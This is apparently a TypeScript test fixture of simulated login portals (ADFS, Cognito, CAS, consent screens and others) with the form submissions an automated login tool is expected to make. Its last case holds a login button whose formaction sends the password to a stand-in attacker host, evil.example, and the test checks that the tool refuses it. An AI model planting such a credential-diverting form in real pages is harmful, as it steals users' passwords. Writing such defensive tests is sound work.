import { between, DONE, form, JUDGE, LOGIN, type Portal, page, raw, takes, wants } from "./portal.js";

const FIELDS =
  '<label for="a">Email address</label><input id="a" name="user" type="text"><label for="b">Password</label><input id="b" name="pass" type="password">';

/** A second set, written after the rules were. */
export const SECOND: readonly Portal[] = [
  {
    name: "Shibboleth: an attribute release with a choice that is remembered by a radio",
    never: ["_shib_idp_globalConsent"],
    pages: between(
      page(
        `<h1>Information Release</h1><p>You are about to access the service. Data to be shared: mail. Do you consent?</p>${form("/idp", '<input type="radio" name="opt" id="r1" value="_shib_idp_doNotRememberConsent"><label for="r1">Ask me again at next login. I agree to send my information this time.</label><input type="radio" name="opt" id="r2" value="_shib_idp_rememberConsent" checked><label for="r2">Ask me again if information changes.</label><input type="checkbox" name="_shib_idp_globalConsent" id="g"><label for="g">Do not ask me again</label><input type="submit" name="_eventId_AttributeReleaseRejected" value="Reject"><input type="submit" name="_eventId_proceed" value="Accept">')}`,
      ),
      { "/idp": wants({ _eventId_proceed: "Accept" }) },
    ),
  },
  {
    name: "ADFS: a form with an absolute action, an optional kmsi box and a link as the button",
    never: ["Kmsi"],
    pages: {
      "/first": page(
        `<form method="post" id="loginForm" autocomplete="off" novalidate="novalidate" onKeyPress="if (event && event.keyCode == 13) Login.submitLoginRequest();" action="/adfs/ls/?x=1"><input id="userNameInput" name="UserName" type="email" value="" tabindex="1" class="text fullWidth" placeholder="someone@example.com" autocomplete="off"><input id="passwordInput" name="Password" type="password" tabindex="2" placeholder="Password" autocomplete="off"><input type="checkbox" name="Kmsi" id="kmsiInput" value="true"><label for="kmsiInput">Keep me signed in</label><span id="submitButton" class="submit" role="button" onclick="return Login.submitLoginRequest();">Sign in</span><input id="optionForms" type="hidden" name="AuthMethod" value="FormsAuthentication"></form>`,
      ),
      "/adfs/ls/": takes({ UserName: "USER", Password: "PASSWORD", AuthMethod: "FormsAuthentication" }, DONE),
    },
  },
  {
    name: "Okta classic: built by a widget",
    posts: 0,
    ends: { error: "LoginChanged", says: "script" },
    pages: {
      "/first": page(
        '<div id="okta-login-container"></div><script src="/js/okta-sign-in.min.js"></script><script>var config = {"baseUrl":"https://x"}; new OktaSignIn(config).renderEl({ el: "#okta-login-container" });</script>',
      ),
    },
  },
  {
    name: "Cognito: the same form twice, one for small screens",
    pages: {
      "/first": page(
        `<div class="modal-content visible-lg">${form("/login", '<input type="hidden" name="_csrf" value="t"><input id="signInFormUsername" name="username" type="text" placeholder="Username"><input id="signInFormPassword" name="password" type="password" placeholder="Password"><input type="hidden" name="cognitoAsfData"><input name="signInSubmitButton" type="Submit" value="Sign in">')}</div><div class="visible-xs">${form("/login", '<input type="hidden" name="_csrf" value="t"><input name="username" type="text" placeholder="Username"><input name="password" type="password" placeholder="Password"><input name="signInSubmitButton" type="Submit" value="Sign in">')}</div>`,
      ),
      "/login": takes({ username: "USER", password: "PASSWORD", _csrf: "t" }, DONE),
    },
  },
  {
    name: "IdentityServer: login and cancel share a form",
    never: ["RememberLogin"],
    pages: {
      "/first": page(
        form(
          "/Account/Login",
          '<input type="hidden" name="ReturnUrl" value="/connect?a=b&amp;c=d"><label for="Username">Username</label><input id="Username" name="Username" autofocus><label for="Password">Password</label><input type="password" id="Password" name="Password" autocomplete="off"><input type="checkbox" name="RememberLogin" value="true"><label>Remember My Login</label><button name="button" value="login">Login</button><button name="button" value="cancel">Cancel</button><input name="__RequestVerificationToken" type="hidden" value="CfDJ8"><input name="RememberLoginShadow" type="hidden" value="false">',
        ),
      ),
      "/Account/Login": takes(
        {
          Username: "USER",
          Password: "PASSWORD",
          button: "login",
          ReturnUrl: "/connect?a=b&c=d",
          __RequestVerificationToken: "CfDJ8",
        },
        DONE,
      ),
    },
  },
  {
    name: "CAS: an execution key, a warn box, a geolocation field",
    never: ["warn"],
    pages: {
      "/first": page(
        form(
          "login",
          '<label for="username"><span class="accesskey">U</span>sername:</label><input id="username" name="username" required><label for="password"><span>P</span>assword:</label><input type="password" id="password" name="password" required><input type="checkbox" id="warn" name="warn" value="true"><label for="warn">Warn me before logging me into other sites.</label><input type="hidden" name="execution" value="e1s1"><input type="hidden" name="_eventId" value="submit"><input type="hidden" name="geolocation"><button name="submitBtn" type="submit">Login</button><a href="/reset">Forgot your password?</a>',
        ),
      ),
      "/login": takes(
        { username: "USER", password: "PASSWORD", execution: "e1s1", _eventId: "submit", geolocation: "" },
        DONE,
      ),
    },
  },
  {
    name: "Signicat: a choice by pictures with texts for the blind",
    pages: {
      "/first": page(
        '<h1>Tunnistaudu</h1><a href="/ftn"><img src="a.svg" alt="Pankkitunnukset"></a><a href="/mv"><img src="b.svg" alt="Mobiilivarmenne"></a><a href="/pw" aria-label="Käyttäjätunnus ja salasana"><img src="c.svg"></a>',
      ),
      "/pw": page(LOGIN),
      "/judge": JUDGE,
    },
  },
  {
    name: "private or company customer, then the login",
    pages: {
      "/first": page(
        '<h1>Kirjaudu</h1><a href="/private">Yksityisasiakas, kirjaudu sähköpostilla</a><a href="/company">Yritysasiakas, kirjaudu Suomi.fi-valtuuksilla</a>',
      ),
      "/private": page(LOGIN),
      "/judge": JUDGE,
    },
  },
  {
    name: "a choice with a single way in Swedish",
    pages: {
      "/first": page(
        '<h1>Mina sidor</h1><a href="/in">Logga in</a><a href="/ny">Bli kund</a><a href="/en">English</a>',
      ),
      "/in": page(LOGIN),
      "/judge": JUDGE,
    },
  },
  {
    name: "a maintenance note above a login that works",
    pages: {
      "/first": page(
        `<div class="alert">Huoltokatko la 5.12. klo 8–10. Palvelu ei ole tällöin käytettävissä.</div>${LOGIN}`,
      ),
      "/judge": JUDGE,
    },
  },
  {
    name: "a page that says it logs in, and a refresh of ten seconds",
    pages: between(
      page("<p>Kirjaudutaan sisään, odota…</p>", '<meta http-equiv="Refresh" content="10;URL=/done">'),
      {},
    ),
  },
  {
    name: "a time-out of a quarter of an hour beside the login",
    pages: { "/first": page(LOGIN, '<meta http-equiv="refresh" content="900;url=/timeout">'), "/judge": JUDGE },
  },
  {
    name: "frames within frames",
    pages: {
      "/first": page('<iframe src="/outer" width="100%" height="100%"></iframe>'),
      "/outer": page('<iframe src="/login"></iframe>'),
      "/login": page(LOGIN),
      "/judge": JUDGE,
    },
  },
  {
    name: "a form in an element that a media query alone hides",
    pages: {
      "/first": page(
        LOGIN,
        "<style>@media (max-width: 100px) { form { display: none } } .x::before { content: '}' }</style>",
      ),
      "/judge": JUDGE,
    },
  },
  {
    name: "JSON answer to the user name, then a page",
    pages: {
      "/first": page(form("/one", '<input name="user" autocomplete="username"><button>Continue</button>')),
      "/one": wants({ user: "USER" }, raw('{"next":"/two"}', { "Content-Type": "application/json" })),
      "/two": page(
        form(
          "/judge",
          '<input type="hidden" name="user" value="aino@example.com"><input name="pass" type="password"><button>Log in</button>',
        ),
      ),
      "/judge": JUDGE,
    },
  },
  {
    name: "two Wicket forms with calls for each, the login second",
    pages: {
      "/first": page(
        `<form id="idq" method="post" action="./x?1-1.-search"><input name="q" placeholder="Haku"><button id="idqb" name="find">Hae</button></form><form id="idl" method="post" action="./x?1-1.-login">${FIELDS}<button id="idlb" name="ok">Kirjaudu</button><button id="idlc" name="cancel">Peruuta</button></form><script>Wicket.Ajax.ajax({"u":"./wrong","m":"POST","c":"idqb","f":"idq","sc":"find"});Wicket.Ajax.ajax({"u":"./wrong","m":"POST","c":"idlc","f":"idl","sc":"cancel"});Wicket.Ajax.ajax({"u":"./judge","m":"POST","c":"idlb","f":"idl","sc":"ok"});Wicket.Ajax.ajax({"u":"./wrong","m":"POST","c":"a","f":"idl","e":"blur"});</script>`,
      ),
      "/judge": takes({ user: "USER", pass: "PASSWORD", ok: "1" }, DONE),
    },
  },
  {
    name: "new terms: accept or log out",
    pages: between(
      page(
        `<h1>Päivitetyt käyttöehdot</h1>${form("/ok", "<button name=a>Hyväksyn käyttöehdot</button>")}${form("/logout", "<button>Kirjaudu ulos</button>")}<a href="/ehdot">Lue käyttöehdot</a>`,
      ),
      { "/ok": wants({ a: "" }) },
    ),
  },
  {
    name: "consent to electronic invoices: not now",
    pages: between(
      page(
        `<h1>Ota e-lasku käyttöön</h1>${form("/e", '<button name="v" value="1">Ota käyttöön</button><button name="v" value="2">En nyt</button>')}`,
      ),
      { "/e": wants({ v: "2" }) },
    ),
  },
  {
    name: "a welcome with a button that opens the service",
    pages: between(
      page(
        '<h1>Tervetuloa takaisin!</h1><p>Viimeksi kirjautunut 1.11.</p><a class="btn btn-primary" href="/done">Avaa palvelu</a><a href="/logout">Kirjaudu ulos</a>',
      ),
      {},
    ),
  },
  {
    name: "an advertisement with a button to close",
    pages: between(
      page(
        `<div role="dialog"><h2>Uusi sovellus!</h2><a href="https://apps.example/x">Lataa sovellus</a>${form("/close", '<button name="c" aria-label="Sulje">×</button>')}</div>`,
      ),
      { "/close": wants({ c: "" }) },
    ),
  },
  {
    name: "e-mail to be confirmed: correct",
    pages: between(
      page(
        `<h1>Onko sähköpostiosoitteesi oikein?</h1>${form("/m", '<input type="email" name="mail" value="aino@example.com"><button name="b" value="fix">Muuta</button><button name="b" value="ok">Kyllä, osoite on oikein</button>')}`,
      ),
      { "/m": wants({ b: "ok", mail: "aino@example.com" }) },
    ),
  },
  {
    name: "a page that only says thank you, and posts by a script from elsewhere",
    pages: between(
      page(
        `<p>Ole hyvä ja odota.</p><form method="post" action="/x"><input type="hidden" name="wresult" value="&lt;t:X/&gt;"><input type="hidden" name="wctx" value="1"></form><script src="/submit.js"></script>`,
      ),
      { "/x": wants({ wresult: "<t:X/>", wctx: "1" }) },
    ),
  },
  {
    name: "a form whose method is a dialog's",
    posts: 0,
    ends: { error: "LoginChanged", says: "" },
    pages: { "/first": page(form("/judge", `${FIELDS}<button>Log in</button>`, 'method="dialog"')) },
  },
  {
    name: "a button that sends the password elsewhere is not pressed",
    posts: 0,
    ends: { error: "HostNotAllowed", says: "evil.example" },
    pages: { "/first": page(form("/judge", `${FIELDS}<button formaction="https://evil.example/x">Log in</button>`)) },
  },
];
